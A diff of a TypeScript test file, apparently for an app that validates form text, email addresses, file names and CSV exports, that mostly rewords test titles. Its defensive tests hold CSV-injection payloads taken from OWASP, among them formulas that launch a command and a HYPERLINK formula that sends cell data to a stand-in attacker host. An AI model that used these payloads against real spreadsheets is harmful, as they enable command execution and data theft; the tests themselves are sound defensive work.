@@ -11,7 +11,7 @@ function accepts(schema: typeof line, value: unknown): boolean {
 test.each([
   ['line', line, 200],
   ['block', block, 2000],
-] as const)('rejects a %s over its limit, without counting space around it', (_, schema, limit) => {
+] as const)('rejects a %s over its limit, not counting the space around it', (_, schema, limit) => {
   expect(accepts(schema, 'a'.repeat(limit))).toBe(true);
   expect(accepts(schema, `  ${'a'.repeat(limit)}  `)).toBe(true);
   expect(schema.safeParse('a'.repeat(limit + 1)).error?.issues[0]?.message).toBe(
@@ -19,31 +19,37 @@ test.each([
   );
 });
 
-test.each([line, block])('accepts text only, and trims it', (schema) => {
+test.each([line, block])('accepts only text, and removes the space around it', (schema) => {
   for (const value of [undefined, null, 7, true, ['a'], { a: 1 }]) {
     expect(accepts(schema, value), `${value}`).toBe(false);
   }
   expect(schema.parse(' \n\u00a0Zoë  नमस्ते 😀\t ')).toBe('Zoë  नमस्ते 😀');
 });
 
-test.each(['\n', '\r', '\t'])('1.3.11 accepts %j in a block, not in a line', (character) => {
-  expect(accepts(block, `a${character}b`)).toBe(true);
-  expect(accepts(line, `a${character}b`)).toBe(false);
-});
+test.each(['\n', '\r', '\t'])(
+  '1.3.11 accepts %j in a block of text, but not in a line',
+  (character) => {
+    expect(accepts(block, `a${character}b`)).toBe(true);
+    expect(accepts(line, `a${character}b`)).toBe(false);
+  },
+);
 
 const CONTROL_CHARACTERS = [0x00, 0x07, 0x0b, 0x1b, 0x1f, 0x7f, 0x80, 0x9f];
 
 const LONE_SURROGATES = [0xd800, 0xdbff, 0xdc00, 0xdfff];
 
-test.each([...CONTROL_CHARACTERS, ...LONE_SURROGATES])('2.2.1 rejects character %i', (code) => {
-  for (const schema of [line, block]) {
-    const { error } = schema.safeParse(`a${String.fromCharCode(code)}b`);
-    const expected = 'Please remove the characters that cannot be printed';
-    expect(error?.issues.map(({ message }) => message)).toEqual([expected]);
-  }
-});
+test.each([...CONTROL_CHARACTERS, ...LONE_SURROGATES])(
+  '2.2.1 rejects the character with the code %i',
+  (code) => {
+    for (const schema of [line, block]) {
+      const { error } = schema.safeParse(`a${String.fromCharCode(code)}b`);
+      const expected = 'Please remove the characters that cannot be printed';
+      expect(error?.issues.map(({ message }) => message)).toEqual([expected]);
+    }
+  },
+);
 
-test('accepts only text, at sign, text, dot, text as an email address', () => {
+test('accepts an email address only with an at sign and a dot after it, each between texts', () => {
   for (const address of ['a@b.c', 'a.b@c.d', 'a+b@c-d.ef', 'a@b.c.d', 'अ@ब.स']) {
     expect(EMAIL_PATTERN.test(address), address).toBe(true);
   }
@@ -55,7 +61,7 @@ test('accepts only text, at sign, text, dot, text as an email address', () => {
   }
 });
 
-test('1.3.11 rejects addresses that could reach another mailbox', () => {
+test('1.3.11 rejects email addresses that could reach another mailbox', () => {
   for (const address of [
     ...['asha,victim@example.com', 'asha<victim@example.com>', '"victim@example.com'],
     ...['asha;b@example.com', 'mailto:asha@example.com', 'asha(victim)@example.com'],
@@ -82,19 +88,19 @@ test.each([...INVISIBLE, ...JOINERS])('treats %j alone as an empty answer', (tex
   expect(error?.issues[0]?.message).toBe('Please fill in');
 });
 
-test('keeps joiners that join characters', () => {
+test('keeps invisible joiners between characters that they join', () => {
   for (const text of ['क्‍ष', 'র‍্য', 'می‌خواهم', '👩‍🎓', '❤️‍🔥', '👍🏽', '1️⃣', '👨‍👩‍👧‍👦']) {
     expect(line.parse(text)).toBe(text);
   }
 });
 
-test('removes joiners from Latin text, composes characters, rejects joiners in addresses', () => {
+test('removes joiners from Latin text, composes accents, and rejects joiners in email addresses', () => {
   expect(line.parse('As\u200dha\u200c Rao\ufe0f')).toBe('Asha Rao');
   expect(line.parse('Zoe\u0308')).toBe('Zo\u00eb');
   expect(emailAddress.safeParse('अ\u200d@example.com').success).toBe(false);
 });
 
-test('CSV has commas between cells, CRLF after rows, and unquoted numbers', () => {
+test('writes CSV with commas between cells, CRLF after rows, and numbers without quotes', () => {
   expect(csvLine(['a', 1, null, 2.5, ''])).toBe('a,1,,2.5,\r\n');
   expect(csvLine([-5])).toBe('-5\r\n');
 });
@@ -106,11 +112,11 @@ test.each([
   ['two\r\nlines', '"two\r\nlines"'],
   ['plain', 'plain'],
   ['हिन्दी 😀', 'हिन्दी 😀'],
-])('quotes %j as RFC 4180 requires', (cell, written) => {
+])('quotes the CSV cell %j as RFC 4180 requires', (cell, written) => {
   expect(csvLine([cell])).toBe(`${written}\r\n`);
 });
 
-/** Inputs from OWASP's page on CSV injection and from published lists. */
+/** Inputs from OWASP's page about CSV injection and from published lists of attacks. */
 const attacks = [
   ...['=1+1', '+1+1', '-1+1', "@SUM(1+1)*cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"],
   '=HYPERLINK("http://evil.example?x="&A1,"here")',
@@ -119,17 +125,20 @@ const attacks = [
   ...['＝1+1', '＋1', '－1', '＠SUM(1)', "%0A-3+3+cmd|' /C calc'!D2\n-1", ';=cmd'],
 ];
 
-/** Cells of a line for every separator that spreadsheets use, with or without quotes. */
+/** Returns every cell that a spreadsheet could read, whichever separator or quotes it expects. */
 function possibleCells(line: string): string[] {
   return line.split(/[,;|\t\r\n"]/).map((cell) => cell.trim());
 }
 
-test.each(attacks)('1.2.10 no spreadsheet reads %j as a formula', (attack) => {
-  const line = csvLine(['before', attack, 'after']);
+test.each(attacks)(
+  '1.2.10 writes %j to CSV so that no spreadsheet reads it as a formula',
+  (attack) => {
+    const line = csvLine(['before', attack, 'after']);
 
-  for (const cell of possibleCells(line)) expect(cell).not.toMatch(/^[=+\-@＝＋－＠]/);
-  expect(line).not.toMatch(/,"?\p{Cc}/u);
-});
+    for (const cell of possibleCells(line)) expect(cell).not.toMatch(/^[=+\-@＝＋－＠]/);
+    expect(line).not.toMatch(/,"?\p{Cc}/u);
+  },
+);
 
 test.each([
   ['CV.pdf', 'CV.pdf'],
@@ -151,7 +160,7 @@ test.each([
   ['folder/', ''],
 ])('stores the file name %j as %j', (sent, kept) => expect(fileName(sent)).toBe(kept));
 
-test('a long file name keeps its extension and whole characters', () => {
+test('shortens a long file name between characters and keeps its extension', () => {
   const name = fileName(`${'👋'.repeat(500)}.docx`);
   expect(Array.from(name)).toHaveLength(120);
   expect(name).toMatch(/👋\.docx$/u);
@@ -163,9 +172,9 @@ test.each([
   ['plan.pdf.exe', undefined],
   ['plan.docm', undefined],
   ['plan.constructor', undefined],
-])('%s has the file kind %s', (name, kind) => expect(kindOf(name)).toBe(kind));
+])('recognises %s as the file kind %s', (name, kind) => expect(kindOf(name)).toBe(kind));
 
-test('the download header has both forms of a file name', () => {
+test('the download header has the file name in ASCII and in UTF-8', () => {
   expect(savedAs('प्लान "1"; x.txt')).toBe(
     `attachment; filename="_____ _1_; x.txt"; filename*=UTF-8''%E0%A4%AA%E0%A5%8D%E0%A4%B2%E0%A4%BE%E0%A4%A8%20%221%22%3B%20x.txt`,
   );
@@ -177,4 +186,4 @@ test.each([
   [86_016, '84 KB'],
   [1_500_000, '1.4 MB'],
   [10 * 1024 * 1024, '10 MB'],
-])('shows %d bytes as %s', (bytes, text) => expect(sizeText(bytes)).toBe(text));
+])('shows a size of %d bytes as %s', (bytes, text) => expect(sizeText(bytes)).toBe(text));
